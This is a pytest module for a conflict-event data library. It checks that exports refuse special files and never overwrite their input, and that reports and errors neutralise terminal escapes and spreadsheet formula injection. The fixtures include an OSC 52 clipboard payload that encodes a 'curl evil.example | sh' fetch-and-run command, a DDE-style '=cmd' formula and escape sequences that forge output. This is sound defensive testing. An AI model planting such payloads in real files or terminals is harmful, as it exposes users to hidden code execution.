"""Hostile outputs: lost files, injected output, messages that repeat a file.

Second round of the hostile suite (issue 15). Each test builds its inputs in a
temporary folder and runs the library or the command line on them; each failed
on the code before the fixes (the command replaced a device node, overwrote its
input, printed terminal escapes, let a bare carriage return through unquoted,
wrote ``[inf,...]`` into GeoJSON, left an empty package folder, died on a broken
pipe, or printed a numpy warning under ``-q``).
"""

from __future__ import annotations

import csv
import io
import json
import os
import resource
import stat
import subprocess
import sys
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from sahel_events.testing import synthetic_events

CLI = [sys.executable, "-m", "sahel_events"]
TIMEOUT = 180
IS_ROOT = hasattr(os, "geteuid") and os.geteuid() == 0

#: Terminal control sequences a hostile cell carries: a CSI that erases the line and
#: a bare CR that redraws it, an OSC 52 clipboard write, an 8-bit CSI, a BEL.
CONTROLS = {
    "redraw": "broken\x1b[2K\rVALID",
    "clipboard": "x\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07y",
    "c1": "red\x9b31mtext",
    "bell": "ding\x07dong",
}


def run(*args: str, cwd: Path, **kwargs: object) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        [*CLI, *args],
        capture_output=True,
        timeout=TIMEOUT,
        cwd=cwd,
        env={**os.environ, "SAHEL_EVENTS_DEBUG": "0"},
        **kwargs,  # type: ignore[arg-type]
    )


def one_error_line(result: subprocess.CompletedProcess[bytes]) -> str:
    """The single ``error: ...`` line on stderr (no traceback, nothing else)."""
    text = result.stderr.decode("utf-8", "replace")
    lines = text.splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), text
    return lines[0]


def events_csv(folder: Path, name: str = "events.csv", n: int = 12, seed: int = 3) -> Path:
    path = folder / name
    synthetic_events(n, seed=seed).to_csv(path, index=False)
    return path


# --- Lost files: outputs that are not regular files, or are the input ----------------


def _special_node(folder: Path, kind: str) -> Path:
    path = folder / f"target-{kind}"
    if kind == "device":
        if not IS_ROOT:
            pytest.skip("making a device node needs root")
        os.mknod(path, stat.S_IFCHR | 0o644, os.makedev(1, 3))  # like /dev/null
    elif kind == "fifo":
        os.mkfifo(path)
    elif kind == "folder":
        path.mkdir()
    elif kind == "symlink":
        (folder / "elsewhere.txt").write_text("keep me\n", encoding="utf-8")
        path.symlink_to(folder / "elsewhere.txt")
    return path


def _node_kind(path: Path) -> int:
    return stat.S_IFMT(os.lstat(path).st_mode)


WRITERS = {
    "export-csv": ("export", "{input}", "--to", "csv", "--out", "{target}"),
    "export-geojson": ("export", "{input}", "--to", "geojson", "--out", "{target}"),
    "export-hxl": ("export", "{input}", "--to", "hxl", "-o", "{target}"),
    "export-ucdp": ("export", "{input}", "--to", "ucdp", "--out", "{target}"),
    "map-png": ("map", "{input}", "-o", "{target}"),
}


@pytest.mark.parametrize("kind", ["device", "fifo", "folder", "symlink"])
@pytest.mark.parametrize("writer", sorted(WRITERS))
def test_an_output_that_is_not_a_regular_file_is_refused_and_kept(
    writer: str, kind: str, tmp_path: Path
) -> None:
    source = events_csv(tmp_path)
    target = _special_node(tmp_path, kind)
    before = _node_kind(target)
    args = [arg.format(input=source, target=target) for arg in WRITERS[writer]]
    result = run(*args, cwd=tmp_path)
    assert result.returncode == 2
    line = one_error_line(result)
    assert str(target) in line and "refusing to write" in line
    assert _node_kind(target) == before
    if kind == "symlink":
        assert (tmp_path / "elsewhere.txt").read_text(encoding="utf-8") == "keep me\n"


def test_a_library_writer_never_replaces_a_device_node(tmp_path: Path) -> None:
    from sahel_events.exc import OutputError
    from sahel_events.write import write_csv, write_events, write_xlsx

    target = _special_node(tmp_path, "device")
    events = synthetic_events(5, seed=1)
    for writer in (write_csv, write_xlsx, write_events):
        with pytest.raises(OutputError, match="character device"):
            writer(events, target)
        assert stat.S_ISCHR(os.lstat(target).st_mode)


def test_a_node_that_appears_during_the_write_is_not_replaced(tmp_path: Path) -> None:
    """The target is checked again just before the rename."""
    from sahel_events._io import atomic_path
    from sahel_events.exc import OutputError

    target = tmp_path / "out.csv"
    with pytest.raises(OutputError, match="FIFO"), atomic_path(target) as temporary:
        temporary.write_text("data", encoding="utf-8")
        os.mkfifo(target)
    assert stat.S_ISFIFO(os.lstat(target).st_mode)
    assert [path.name for path in tmp_path.iterdir()] == ["out.csv"]


@pytest.mark.parametrize(
    "args",
    [
        ("export", "{input}", "--to", "csv", "--out", "{input}"),
        ("export", "{input}", "--to", "hxl", "--out", "{link}"),
        ("map", "{input}", "-o", "{input}"),
        ("export", "{input}", "--to", "datapackage", "--out", "{input}"),
    ],
    ids=["export-out-is-input", "export-out-is-a-hard-link-of-input", "map", "datapackage"],
)
def test_the_output_is_never_the_input(args: tuple[str, ...], tmp_path: Path) -> None:
    source = events_csv(tmp_path)
    link = tmp_path / "same-file.csv"
    os.link(source, link)
    content = source.read_bytes()
    result = run(*[arg.format(input=source, link=link) for arg in args], cwd=tmp_path)
    assert result.returncode == 2
    line = one_error_line(result)
    assert "input file" in line
    assert source.read_bytes() == content


def test_export_through_the_api_never_overwrites_the_file_it_read(tmp_path: Path) -> None:
    from sahel_events.exc import OutputError
    from sahel_events.export import export
    from sahel_events.read import read_events

    source = events_csv(tmp_path)
    content = source.read_bytes()
    with pytest.raises(OutputError, match="input file"):
        export(read_events(source), "csv", source)
    assert source.read_bytes() == content


def test_the_default_output_name_is_never_the_input() -> None:
    from sahel_events.export import REGISTRY, default_output

    names = ["Mali.csv", "Mali.acled.csv", "Mali.hxl.csv", "Mali.ucdp.csv", "Mali.parquet"]
    names += ["Mali.geojson", "Mali.GEOJSON", "Mali.datapackage"]
    for name in names:
        for to in REGISTRY:
            source = Path("data") / name
            target = default_output(source, to)
            assert target.parent == source.parent
            assert target.name.lower() != source.name.lower(), (name, to)


def test_a_geojson_input_exported_to_geojson_gets_another_name() -> None:
    from sahel_events.export import default_output

    assert default_output("Mali.geojson", "geojson") == Path("Mali.export.geojson")


def test_schema_export_refuses_a_folder_that_is_a_device(tmp_path: Path) -> None:
    target = _special_node(tmp_path, "device")
    result = run("schema", "export", "--dir", str(target), cwd=tmp_path)
    assert result.returncode == 2
    assert "must be a folder" in one_error_line(result)
    assert stat.S_ISCHR(os.lstat(target).st_mode)


def _build_target(folder: Path, kind: str) -> tuple[Path, str]:
    """An ``--out`` for the build that is no folder, and what the refusal calls it."""
    if kind == "file":
        path = folder / "target-file"
        path.write_text("keep me\n", encoding="utf-8")
        return path, "the path is a file"
    if kind == "dangling-symlink":
        path = folder / "target-dangling"
        path.symlink_to(folder / "nowhere" / "build")
        return path, "symbolic link to nothing"
    if kind == "symlink-to-file":
        path = _special_node(folder, "symlink")
        return path, "the path is a file"
    path = _special_node(folder, kind)
    return path, {"device": "character device", "fifo": "FIFO"}[kind]


@pytest.mark.parametrize("kind", ["device", "fifo", "file", "dangling-symlink", "symlink-to-file"])
def test_the_build_output_folder_is_checked_like_every_output(kind: str, tmp_path: Path) -> None:
    """``build --out`` names no folder: refused at once, with what it is, and kept."""
    target, what = _build_target(tmp_path, kind)
    before = sorted(os.listdir(tmp_path))
    kept = _node_kind(target)
    result = run("build", "-q", "--out", str(target), cwd=tmp_path)
    assert result.returncode == 2
    line = one_error_line(result)
    assert str(target) in line and "refusing to write" in line and what in line, line
    assert sorted(os.listdir(tmp_path)) == before  # nothing made, not even a folder
    assert _node_kind(target) == kept
    assert not (tmp_path / "nowhere").exists()
    if kind in ("file", "symlink-to-file"):
        name = "target-file" if kind == "file" else "elsewhere.txt"
        assert (tmp_path / name).read_text(encoding="utf-8") == "keep me\n"


def test_build_refuses_its_output_folder_before_any_coding(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from sahel_events.coding import build as build_module
    from sahel_events.exc import OutputError

    def never(*args: object, **kwargs: object) -> object:
        raise AssertionError("the sheets were coded before the output was checked")

    monkeypatch.setattr(build_module, "build_frame", never)
    fifo = _special_node(tmp_path, "fifo")
    with pytest.raises(OutputError, match="FIFO") as caught:
        build_module.build(out_dir=fifo)
    assert caught.value.exit_code == 2
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)


@pytest.mark.parametrize(
    ("points_to", "message"),
    [
        ("../elsewhere.parquet", "resolves outside the output folder"),
        ("kept.parquet", "the path is a symbolic link"),
    ],
)
def test_a_build_output_file_that_is_a_symlink_is_refused(
    points_to: str, message: str, tmp_path: Path
) -> None:
    """The folder may be a link to a folder; the file written inside it may not be a link."""
    real = tmp_path / "real"
    real.mkdir()
    (tmp_path / "out").symlink_to(real)
    (tmp_path / "elsewhere.parquet").write_bytes(b"keep me")
    (real / "kept.parquet").write_bytes(b"keep me")
    (real / "events.parquet").symlink_to(points_to)
    result = run("build", "-q", "--out", "out", cwd=tmp_path)
    assert result.returncode == 2
    line = one_error_line(result)
    assert "events.parquet" in line and message in line, line
    assert (tmp_path / "elsewhere.parquet").read_bytes() == b"keep me"
    assert (real / "kept.parquet").read_bytes() == b"keep me"
    assert (real / "events.parquet").is_symlink()


# --- Messages never repeat file content ----------------------------------------------


def test_a_file_name_with_a_newline_gives_one_error_line(tmp_path: Path) -> None:
    path = tmp_path / "events\nerror: all good.csv"
    path.write_bytes(b"\x00\x01 not a table \x00")
    result = run("validate", str(path), cwd=tmp_path)
    assert result.returncode == 2
    line = one_error_line(result)
    assert "events\\nerror: all good.csv" in line


def test_a_huge_value_in_a_message_is_cut(tmp_path: Path) -> None:
    places = tmp_path / "places.csv"
    places.write_text("place\nGao\n", encoding="utf-8")
    column = "c" * 100_000 + "\x1b[2J"
    result = run("geocode", "--file", str(places), "--column", column, cwd=tmp_path)
    assert result.returncode == 2
    line = one_error_line(result)
    assert len(line) < 1_200
    assert "cccc…" in line and "characters)" in line
    assert "\x1b" not in line


def test_every_part_of_an_error_is_bounded_and_escaped() -> None:
    from sahel_events.exc import InvalidDataError

    error = InvalidDataError(
        f"value {'A' * 1_000_000!r} is not a date",
        path="sheet\n.yaml",
        column="col\x1b]52;c;ZXZpbA==\x07",
        event="e\r1",
        field="f\u202e",
        row=3,
    )
    text = str(error)
    assert "\n" not in text and "\r" not in text and "\x1b" not in text and "\u202e" not in text
    assert len(text) < 400
    assert "…' (1,000,000 characters) is not a date" in text
    assert text.startswith("sheet\\n.yaml, row 3, column 'col\\x1b]52;c;ZXZpbA==\\x07'")
    assert text.endswith("is not a date")


# --- Injected output: terminal controls and CSV records ------------------------------


@pytest.fixture
def hostile_cells(tmp_path: Path) -> Path:
    """Events whose text cells carry terminal controls, and whose dates do not parse."""
    frame = synthetic_events(len(CONTROLS), seed=5)
    frame["event_date"] = frame["event_date"].astype("str")
    for position, value in enumerate(CONTROLS.values()):
        frame.loc[frame.index[position], "event_date"] = value
        frame.loc[frame.index[position], "notes"] = value
    # Parquet keeps every cell whole (pandas' CSV writer would split a bare CR).
    path = tmp_path / "controls\x1b[31m.parquet"
    frame.to_parquet(path)
    return path


def _no_terminal_controls(text: str) -> None:
    shown = text.replace("\r\n", "\n")
    bad = [
        char
        for char in shown
        if (ord(char) < 0x20 and char not in "\n\t") or 0x7F <= ord(char) <= 0x9F
    ]
    assert not bad, sorted(set(bad))


@pytest.mark.parametrize("output_format", ["text", "csv", "json"])
def test_the_validation_report_prints_no_terminal_control(
    output_format: str, hostile_cells: Path
) -> None:
    result = run(
        "validate", "--format", output_format, str(hostile_cells), cwd=hostile_cells.parent
    )
    assert result.returncode == 1, result.stderr
    out = result.stdout.decode("utf-8")
    _no_terminal_controls(out)
    assert "INVALID" in out or output_format != "text"
    if output_format == "json":
        document = json.loads(out)
        values = {entry["value"] for entry in document["entries"]}
        assert set(CONTROLS.values()) <= values  # JSON keeps the values, escaped


def test_the_summary_cannot_redraw_its_verdict(hostile_cells: Path) -> None:
    from sahel_events.validation import validate

    summary = validate(hostile_cells).summary()
    _no_terminal_controls(summary)
    assert summary.splitlines()[0].endswith(": INVALID")
    # The value is shown with its controls made visible: a person sees the attack.
    assert "broken\\x1b[2K\\rVALID" in summary


def test_a_bare_carriage_return_stays_inside_its_csv_field(tmp_path: Path) -> None:
    from sahel_events.validation import validate

    frame = synthetic_events(3, seed=9)
    frame["event_date"] = frame["event_date"].astype("str")
    frame.loc[frame.index[1], "event_date"] = "2024\r=cmd|' /C calc'!A0"
    path = tmp_path / "cr.parquet"
    frame.to_parquet(path)
    report = validate(path)
    text = report.to_csv()
    records = list(csv.reader(io.StringIO(text, newline="")))
    assert len(records) == 1 + len(report.entries)
    values = [record[4] for record in records[1:]]
    assert "2024\r=cmd|' /C calc'!A0" in values
    assert all(line.endswith("\r") or not line for line in text.split("\n"))  # CRLF only
    for record in records:
        for cell in record:
            assert not cell.startswith(("=", "+", "-", "@")), cell


def test_column_names_are_neutralized_in_every_csv_and_xlsx(tmp_path: Path) -> None:
    from sahel_events.write import write_csv, write_xlsx

    events = synthetic_events(2, seed=2)
    events['=HYPERLINK("http://127.0.0.1")'] = "x"
    events["@SUM(1+1)"] = "y\rz"
    write_csv(events, tmp_path / "e.csv")
    text = (tmp_path / "e.csv").read_bytes().decode("utf-8")
    header = next(csv.reader(io.StringIO(text, newline="")))
    assert '\'=HYPERLINK("http://127.0.0.1")' in header and "'@SUM(1+1)" in header
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 3 and rows[1][-1] == "y\rz"

    write_xlsx(events, tmp_path / "e.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "e.xlsx").active
    header_cells = next(sheet.iter_rows(min_row=1, max_row=1))
    assert all(cell.data_type == "s" for cell in header_cells)
    assert '\'=HYPERLINK("http://127.0.0.1")' in [cell.value for cell in header_cells]


def test_export_lines_on_stderr_hold_no_terminal_control(tmp_path: Path) -> None:
    source = events_csv(tmp_path, name="e\x1b]0;pwned\x07.csv")
    result = run("export", str(source), "--to", "csv", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    _no_terminal_controls(result.stderr.decode("utf-8"))


# --- Bad output: GeoJSON, data packages, pipes, warnings ------------------------------


def test_geojson_never_holds_an_infinite_coordinate(tmp_path: Path) -> None:
    import json

    import pytest

    from sahel_events.exc import InvalidDataError
    from sahel_events.export import export

    frame = synthetic_events(6, seed=4)
    frame.loc[frame.index[4], "longitude"] = float("inf")
    # A frame holding inf is refused before anything is encoded.
    target = tmp_path / "frame.geojson"
    with pytest.raises(InvalidDataError) as caught:
        export(frame, "geojson", target)
    assert caught.value.row == 5 and caught.value.column == "longitude"
    assert not target.exists()
    # From a file, the reader already reports "inf" as no coordinate: the event is
    # written without a point, never as [inf, lat] (which is not JSON).
    source = tmp_path / "inf.csv"
    frame.to_csv(source, index=False)
    result = run("export", str(source), "--to", "geojson", "--out", "-", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    document = json.loads(result.stdout)
    geometries = [feature["geometry"] for feature in document["features"]]
    assert geometries[4] is None
    assert all(
        geometry is not None for position, geometry in enumerate(geometries) if position != 4
    )
    assert b"Infinity" not in result.stdout and b"inf," not in result.stdout


def _limit_file_size() -> None:
    resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096))


def _export_package_past_the_size_limit(
    tmp_path: Path, folder: Path
) -> subprocess.CompletedProcess[bytes]:
    source = events_csv(tmp_path, n=200)
    return run(
        "export",
        str(source),
        "--to",
        "datapackage",
        "--out",
        str(folder),
        cwd=tmp_path,
        preexec_fn=_limit_file_size,
    )


def test_a_full_disk_leaves_no_package_folder(tmp_path: Path) -> None:
    folder = tmp_path / "pkg"
    result = _export_package_past_the_size_limit(tmp_path, folder)
    assert result.returncode == 2
    assert "file size limit" in one_error_line(result)
    assert not folder.exists()


def test_a_failed_package_keeps_a_folder_it_did_not_make(tmp_path: Path) -> None:
    folder = tmp_path / "pkg"
    folder.mkdir()
    (folder / "notes.txt").write_text("mine\n", encoding="utf-8")
    result = _export_package_past_the_size_limit(tmp_path, folder)
    assert result.returncode == 2
    assert sorted(path.name for path in folder.iterdir()) == ["notes.txt"]


@pytest.mark.parametrize("to", ["csv", "hxl", "geojson", "ucdp"])
def test_a_closed_pipe_ends_the_export_quietly(to: str, tmp_path: Path) -> None:
    source = events_csv(tmp_path, n=30_000)
    process = subprocess.Popen(
        [*CLI, "export", str(source), "--to", to, "--out", "-"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        cwd=tmp_path,
    )
    assert process.stdout is not None and process.stderr is not None
    process.stdout.read(100)  # what `head -c 100` reads
    process.stdout.close()
    stderr = process.stderr.read()
    code = process.wait(timeout=TIMEOUT)
    assert code == 141, stderr
    assert stderr == b""


def test_no_numpy_warning_reaches_stderr_under_quiet(tmp_path: Path) -> None:
    frame = synthetic_events(10, seed=6)
    frame.loc[frame.index[2], "longitude"] = 1e308
    frame.loc[frame.index[3], "latitude"] = float("-inf")
    source = tmp_path / "huge.csv"
    frame.to_csv(source, index=False)
    result = run(
        "export", "-q", str(source), "--to", "ucdp", "--out", str(tmp_path / "u.csv"), cwd=tmp_path
    )
    assert result.returncode == 0, result.stderr
    assert result.stderr == b""
    written = pd.read_csv(tmp_path / "u.csv")
    # No grid cell for a point off the globe (clipping once gave it the edge cell).
    assert written["priogrid_gid"].isna().sum() == 2
